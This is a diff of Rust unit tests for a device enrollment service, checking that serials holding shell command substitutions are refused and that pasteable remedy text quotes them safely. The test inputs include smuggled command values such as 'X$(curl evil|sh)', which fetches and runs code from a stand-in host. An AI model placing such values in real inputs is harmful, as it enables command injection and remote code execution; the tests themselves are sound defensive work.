@@ -237,3 +237,33 @@ fn a_code_is_taken_in_lower_case_and_with_or_without_its_hyphen() {
     assert_eq!(typed_code("7KQ"), "7KQ");
     assert_eq!(typed_code(""), "");
 }
+
+#[test]
+fn a_serial_that_is_an_order_of_a_shell_is_let_in_only_where_it_is_registered_already() {
+    let claims = EnrollmentClaims { serial: "X$(id)".into(), ..EnrollmentClaims::default() };
+    let token = token();
+    let decided = |registered| {
+        admit(&Asking { now: at(NOW), token: Some(&token), earlier: Earlier::Nothing, claims: &claims, registered })
+    };
+    let unusual = Admission::Refuse(Refusal::Serial(InvalidSerial::Unusual));
+    assert_eq!(decided(None), unusual);
+    let known = device(DeviceState::Registered, false);
+    let issue = Admission::Issue { place: Place::Known(known.id), cost: Cost::OneUse };
+    assert_eq!(decided(Some(known)), issue);
+}
+
+#[test]
+fn a_remedy_that_is_pasted_into_a_shell_runs_nothing_of_the_serial() {
+    for refusal in [
+        Refusal::UnknownToken,
+        Refusal::OtherSerial { bound: "PF1".into() },
+        Refusal::SerialTaken,
+        Refusal::RevokedDevice,
+        Refusal::LostDevice,
+        Refusal::HeldDevice,
+    ] {
+        let remedy = refusal.remedy("X$(curl evil|sh)");
+        assert!(remedy.contains(" 'X$(curl evil|sh)'"), "{remedy}");
+        assert!(refusal.remedy("PF1").contains(" PF1"), "a plain one stays plain");
+    }
+}
